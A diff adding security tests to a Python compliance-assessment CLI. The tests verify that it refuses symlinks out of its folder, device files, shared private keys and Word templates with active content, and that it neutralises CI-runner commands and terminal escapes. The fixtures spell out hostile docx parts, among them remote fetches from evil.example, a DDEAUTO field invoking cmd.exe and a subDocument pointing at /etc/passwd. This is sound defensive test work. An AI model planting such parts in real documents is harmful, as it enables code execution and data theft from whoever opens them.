@@ -21,14 +21,16 @@ import pytest
 
 from builders import new_folder
 from documents import planned, small, view
+from fuzzing import replaced
 from gating import hostile_folder
+from iso20k_gap.cli import configured, runner
 from iso20k_gap.cli.app import main
 from iso20k_gap.core.logo import Logo
 from iso20k_gap.errors import RenderError
-from iso20k_gap.files import atomic
+from iso20k_gap.files import atomic, signing_key
 from iso20k_gap.files.own_files import FILES, FOLDERS
 from iso20k_gap.reports import pdf, rendering
-from iso20k_gap.reports.rendering import filled, html_environment, own_templates
+from iso20k_gap.reports.rendering import filled, html_environment, own_templates, word_template
 from iso20k_gap.reports.view import Order, build_view
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -50,13 +52,15 @@ def acme(tmp_path, capsys):
 
 # --- links -------------------------------------------------------------------------------
 
-INSIDE = (*FILES, "answers/8.6.yaml", "baselines/2026-11-21-b.yaml")
-READING = ("status", "score", "check", "report -f json -o -", "plan", "trend", "evidence")
+INSIDE = (*FILES, "answers/8.6.yaml", "baselines/2026-11-21-b.yaml", "approvals/a.json")
+READING = ("status", "score", "check", "report -f json -o -", "plan", "trend", "evidence",
+           "verify", "export -f csv", "export -f oscal-ar")  # fmt: skip
 
 
 @pytest.mark.parametrize("name", INSIDE)
 def test_a_file_that_is_a_link_out_of_the_folder_is_refused(acme, tmp_path, name, capsys):
     """Exit 3 with the link's name; nothing of what it leads to is told, and nothing written."""
+    (acme / name).parent.mkdir(exist_ok=True)
     (acme / name).unlink(missing_ok=True)
     (acme / name).symlink_to(tmp_path / "secret")
     for command in (*READING, "rate 8.6.1=F", "baseline --label x", "action 8.6.1-A1 --percent 3"):
@@ -76,10 +80,13 @@ def test_a_folder_that_is_a_link_elsewhere_is_neither_read_nor_written(
 ):
     """Someone else's files stay as they are, and unseen."""
     place = tmp_path / "elsewhere"
+    (acme / name).mkdir(exist_ok=True)
     (acme / name).rename(tmp_path / "away")
     (acme / name).symlink_to(place)
     (place / "8.5.yaml").write_text(HIDDEN)
-    for command in (*READING, "rate 8.6.1=F", "baseline --label x"):
+    key = signing_key.make(tmp_path / "key.pem") and tmp_path / "key.pem"
+    signing = f"sign --approver A --statement S --key {key}"
+    for command in (*READING, "rate 8.6.1=F", "baseline --label x", signing):
         word, *rest = command.split()
         assert main([word, str(acme), *rest, *TODAY]) == 3, command
         assert "hunter" not in "".join(capsys.readouterr())
@@ -125,6 +132,59 @@ def test_a_device_as_a_file_is_read_no_further_than_a_file_may_be_long(tmp_path,
 
     assert main(["rate", str(acme), "--from", "/dev/zero"]) == 3
     assert "too large" in capsys.readouterr().err
+
+
+def test_a_pack_that_is_a_device_is_read_no_further(tmp_path, capsys):
+    """It tells that it is empty and never ends."""
+    acme = new_folder(tmp_path / "acme")
+    capsys.readouterr()
+
+    assert main(["questionnaire", "import", str(acme), "/dev/zero"]) == 3
+    assert "too large" in capsys.readouterr().err
+
+
+def test_settings_of_a_folder_are_not_read_through_a_link(acme, tmp_path, monkeypatch, capsys):
+    """Else complaints would show what stands in any file that the runner may read."""
+    (acme / ".iso20k-gap.yaml").symlink_to(tmp_path / "secret")
+    monkeypatch.chdir(acme)
+    for command in ("status .", "report . -f json -o -", "config show", "check ."):
+        assert main([*command.split(), *TODAY]) == 3, command
+        out, err = capsys.readouterr()
+        assert "leads out of its folder" in err
+        assert not re.search("token|hunter", out + err)
+
+
+def test_settings_in_a_folder_do_not_count_for_who_works_elsewhere(
+    acme, tmp_path, monkeypatch, capsys
+):
+    """What a pipeline is to ignore it ignores, if it works outside the checkout."""
+    looks = acme / "looks"
+    looks.mkdir()
+    (looks / "report.md.j2").write_text("owned")
+    (acme / ".iso20k-gap.yaml").write_text("report: {template: looks}\n")
+    order = ["report", str(acme), "-f", "md", "-o", "-", *TODAY]
+    told = []
+    for place in (acme, tmp_path):
+        monkeypatch.chdir(place)
+        assert main(order) == 0
+        told.append(capsys.readouterr().out)
+
+    assert told[0].strip() == "owned"
+    assert len(told[1]) > 1000
+
+
+def test_a_private_key_in_the_shared_folder_is_not_taken(acme, capsys):
+    """Nobody signs with a key that everybody has, and nobody puts theirs there by mistake."""
+    key = acme / "key.pem"
+    signing_key.make(key)
+    order = ["sign", str(acme), "--approver", "A", "--statement", "S", "--key", str(key)]
+
+    assert main([*order, *TODAY]) == 2
+    key.chmod(0o644)
+    key.rename(acme.parent / "open.pem")
+    assert main([*order[:-1], str(acme.parent / "open.pem"), *TODAY]) == 3
+    assert not (acme / "approvals").exists()
+    capsys.readouterr()
 
 
 def test_a_report_replaces_a_link_and_not_what_it_leads_to(acme, tmp_path, capsys):
@@ -259,6 +319,83 @@ def test_a_template_gets_neither_out_nor_into_endless_ranges(templates, text):
     assert "hunter" not in str(raised.value)
 
 
+@pytest.mark.parametrize("name", ["report.html.j2", "base.css", "report.docx"])
+def test_a_template_that_is_a_link_out_is_refused(acme, templates, name, capsys):
+    """By the report and by the check; nothing of what it leads to is shown."""
+    (templates / name).symlink_to(templates.parent / "secret")
+    kind = "docx" if name.endswith(".docx") else "html"
+    out = templates.parent / f"out.{kind}"
+    order = ["report", str(acme), "-f", kind, "--template", str(templates), "-o", str(out), *TODAY]
+    for command, code in ((order, 4), (["template", "check", str(templates)], 3)):
+        assert main(command) == code
+        told = "".join(capsys.readouterr())
+        assert "leads out of the folder of templates" in told
+        assert "hunter" not in told
+    assert not out.exists()
+
+
+RELATION = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="{}"/></Relationships>'
+)
+FIELD = (
+    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>{}</w:p>'
+    "</w:hdr>"
+)
+SPREAD = (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
+    '<w:r><w:instrText>PICTURE "http://evil.example/x"</w:instrText></w:r>'
+)
+BRINGING = {
+    "attachedTemplate": RELATION.format("attachedTemplate", "http://evil.example/a.dotm", ""),
+    "image": RELATION.format("image", "http://evil.example/a.png", "External"),
+    "UNC path": RELATION.format("image", "file://///evil.example/a", "external"),
+    "oleObject": RELATION.format("oleObject", "embeddings/a.bin", "Internal"),
+    "vbaProject": RELATION.format("vbaProject", "vbaProject.bin", "Internal"),
+    "aFChunk": RELATION.format("aFChunk", "a.html", "Internal"),
+    "subDocument": RELATION.format("subDocument", "file:///etc/passwd", "External"),
+    "DDEAUTO": FIELD.format('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe x"/>'),
+    "INCLUDEPICTURE": FIELD.format(SPREAD),
+    "LINK": FIELD.format("<w:r><w:instrText> link Excel.Sheet a</w:instrText></w:r>"),
+    "entities": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
+}
+
+
+ACTIVE_PARTS = [name for name, text in BRINGING.items() if "Relationship " in text]
+
+
+@pytest.mark.parametrize("name", BRINGING)
+def test_a_word_template_that_brings_something_in_is_refused(acme, templates, name, capsys):
+    """Else whoever opens the report would fetch it, or run it."""
+    part = "word/_rels/header9.xml.rels" if name in ACTIVE_PARTS else "word/header9.xml"
+    content = replaced(word_template().read_bytes(), part, BRINGING[name].encode())
+    (templates / "report.docx").write_bytes(content)
+    out = templates.parent / "out.docx"
+    order = ["report", str(acme), "-f", "docx", "--template", str(templates), "-o", str(out)]
+
+    assert main([*order, *TODAY]) == 4
+    assert "the Word template" in capsys.readouterr().err
+    assert not out.exists()
+    assert main(["template", "check", str(templates)]) == 3
+    told = capsys.readouterr().err
+    assert ("evil.example" in told) or (name.lower() in told.lower())
+
+
+def test_a_word_template_with_ordinary_links_and_fields_is_taken(acme, templates, capsys):
+    """Links that wait for a click, page numbers, and pictures in the file are no danger."""
+    content = word_template().read_bytes()
+    link = RELATION.format("hyperlink", "https://acme.example", "External")
+    content = replaced(content, "word/_rels/header9.xml.rels", link.encode())
+    field = '<w:fldSimple w:instr="PAGE"/><w:r><w:instrText>HYPERLINK x</w:instrText></w:r>'
+    content = replaced(content, "word/header9.xml", FIELD.format(field).encode())
+    (templates / "report.docx").write_bytes(content)
+    order = ["report", str(acme), "-f", "docx", "--template", str(templates)]
+
+    assert main([*order, "-o", str(templates.parent / "out.docx"), *TODAY]) == 0
+    assert main(["template", "check", str(templates)]) == 0
+    capsys.readouterr()
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -315,7 +452,7 @@ def test_a_logo_that_cannot_be_drawn_is_told(caplog):
 # --- what is printed ---------------------------------------------------------------------
 
 CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
-SPOKEN = re.compile(r"^\s*(?:::|##\[|##vso)", re.MULTILINE)
+SPOKEN = re.compile(r"^\s*::|##(?:vso)?\[", re.MULTILINE)
 ESCAPE = "\x1b[2J\x07\x9b31m\u202e"
 TOLD = (
     "status {}", "validate {}", "score {}", "findings {}", "next {}", "check {}", "plan {}",
@@ -323,6 +460,9 @@ TOLD = (
     "training {}", "evidence {}", "explain {} conformity", "capability {}", "portfolio {}",
     "agreement {} {}", "plan check {}/../p.csv", "sample --from {}/../p.csv", "document {} 8.6.1",
     "check {} --policy {}/../bad.yaml", "compare {} {}/../bad.yaml", "questionnaire list",
+    "verify {}", "export {} -f csv -o {}/../out.csv", "config show", "config get assessor",
+    "template check {}/../looks", "demo {}", "status {} --json", "findings {} --json",
+    "portfolio {} --json", "plan {} -f json", "verify {} --json", "evidence {} --json",
     "rate {} '8.6.1-01=\x1b[2J'", "report {} --audience '\x1b[2J'", "action {} '\x1b[2J'",
 )  # fmt: skip
 
@@ -332,7 +472,7 @@ def hostile(tmp_path_factory):
     """A folder full of terminal escapes and commands to pipelines, and files beside it."""
     place = tmp_path_factory.mktemp("hostile")
     folder = hostile_folder(place / "acme")
-    said = f"{ESCAPE}\n::error::owned\n##[group]"
+    said = f"{ESCAPE}\n::error::owned\n##[group] ##vso[task.setvariable variable=x]y"
     quoted = json.dumps(said)
     (folder / "drafts.yaml").write_text(f"schema: 1\n4.1-01: {{note: {quoted}}}\n")
     (folder / "capability.yaml").write_text(f"processes:\n  {quoted}: {{PA 1.1: [F]}}\n")
@@ -341,6 +481,12 @@ def hostile(tmp_path_factory):
     row = f'"{ESCAPE}",2027-01-01,2027-01-02,"{ESCAPE}"\n'
     rows = f"id,start,end,predecessors\n{row}::error::b,2027-01-05,2027-01-04,\n"
     (place / "p.csv").write_text(rows)
+    (place / ".iso20k-gap.yaml").write_text(f"assessor: {quoted}\n")
+    (place / "looks").mkdir()
+    (place / "looks" / "report.md.j2").write_text(f"{{{{ {quoted} }}}}{{{{ 1 / 0 }}}}")
+    (folder / "approvals").mkdir()
+    told = {"payloadType": said, "payload": "", "signatures": [{"sig": ""}]}
+    (folder / "approvals" / "a.json").write_text(json.dumps(told))
     (place / "bad.yaml").write_text(f"schema: 1\n{quoted}: 1\nassessment: {{}}\n")
     return folder
 
@@ -352,13 +498,62 @@ def test_no_command_obeys_or_passes_on_control_characters(hostile, command, monk
     In a pipeline no line begins as a command to its runner.
     """
     monkeypatch.setenv("CI", "true")
+    monkeypatch.chdir(hostile.parent)
+    configured.forget()
     code = main(shlex.split(command.replace("{}", str(hostile))))
     out, err = capsys.readouterr()
 
     assert code in (0, 1, 2, 3)
+    if "json" in command:
+        json.loads(out)
     assert not CONTROL.search(out + err)
     assert not SPOKEN.search(out + err)
     assert (out + err).strip()
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        (["::error::x\n"], ":\\:error::x\n"),
+        (["a ::b\n"], "a ::b\n"),
+        (["  ::b"], "  :\\:b"),
+        (["a\n", "::b"], "a\n:\\:b"),
+        (["a", "::b"], "a::b"),
+        ([":", ":b"], ":\\:b"),
+        ([" " * 99, ":", ":b"], " " * 99 + ":\\:b"),
+        (["a" * 99, "::b"], "a" * 99 + "::b"),
+        (["a\r::b"], "a\r:\\:b"),
+        (["x ##[y]"], "x ##\\[y]"),
+        (["x ##vso[y]"], "x ##vso\\[y]"),
+        (["x ##VSO[y]"], "x ##VSO\\[y]"),
+        (["x #", "#", "[y] ##", "[z]"], "x ##\\[y] ##\\[z]"),
+        (["x ##vs", "o[y] z", " ##vso", "[a"], "x ##vso\\[y] z ##vso\\[a"),
+        (["## [y] #[z] # #[a]\n::\n"], "## [y] #[z] # #[a]\n:\\:\n"),
+    ],
+)
+def test_no_way_of_writing_a_command_reaches_the_runner(written, shown, monkeypatch):
+    """In one piece or in many; in a pipeline, and only there."""
+    for place, wanted in (("true", shown), ("", "".join(written))):
+        monkeypatch.setenv("CI", place)
+        stream = io.StringIO()
+        monkeypatch.setattr(sys, "stdout", stream)
+        with runner.unmoved():
+            for text in written:
+                sys.stdout.write(text)
+
+        assert stream.getvalue() == wanted
+        assert sys.stdout is stream
+
+
+def test_what_we_say_to_the_runner_is_heard(hostile, monkeypatch, capsys):
+    """The annotations of `check --github` are commands, and the only ones."""
+    monkeypatch.setenv("CI", "true")
+    assert main(["check", str(hostile), "--github", *TODAY]) == 1
+    lines = [each for each in capsys.readouterr().out.splitlines() if SPOKEN.search(each)]
+
+    assert lines
+    assert all(re.match(r"::(?:error|warning) file=", each) for each in lines)
+    assert not [each for each in lines if "##[" in each or "##vso[" in each]
 
 
 # --- the network -------------------------------------------------------------------------
@@ -367,6 +562,7 @@ OFFLINE = """
 import socket, sys
 def refuse(*given, **named): raise AssertionError("the network was asked")
 socket.socket.connect = socket.getaddrinfo = socket.create_connection = refuse
+from iso20k_gap.cli import configured, runner
 from iso20k_gap.cli.app import main
 folder, out = sys.argv[1:]
 for order in (["status", folder], ["report", folder, "-f", "pdf", "-f", "html", "-f", "docx",
